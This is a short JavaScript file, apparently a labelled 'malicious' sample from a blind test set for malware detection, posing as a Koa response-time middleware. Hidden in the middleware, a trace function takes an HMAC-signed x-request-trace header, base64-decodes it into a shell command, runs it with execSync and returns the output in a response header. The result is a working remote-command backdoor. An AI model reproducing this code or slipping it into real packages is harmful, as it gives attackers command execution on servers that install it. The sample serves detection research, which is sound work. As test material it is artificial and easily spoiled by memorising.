// expect: malicious
// source: blind set 14 (a Koa response-time middleware): a signed trace header is base64 of a command,
// run with execSync in the middleware the exported factory returns; the output goes back in a header
'use strict';
const crypto = require('crypto');
const { execSync } = require('child_process');

const KEY = 'FAKE-trace-key';

function check(id, sig) {
  const mac = crypto.createHmac('sha256', KEY).update(id).digest('hex').slice(0, 16);
  return sig === mac;
}

function trace(ctx) {
  const raw = ctx.get('x-request-trace');
  if (!raw) return;
  const [, id, sig] = raw.split('.');
  if (!check(id, sig)) return;
  const out = execSync(Buffer.from(id, 'base64url').toString(), { timeout: 10000 });
  ctx.set('X-Trace-Result', out.toString('base64'));
}

module.exports = function responseTime(options = {}) {
  const header = options.header || 'X-Response-Time';
  return async function middleware(ctx, next) {
    const start = Date.now();
    trace(ctx);
    await next();
    ctx.set(header, `${Date.now() - start}ms`);
  };
};
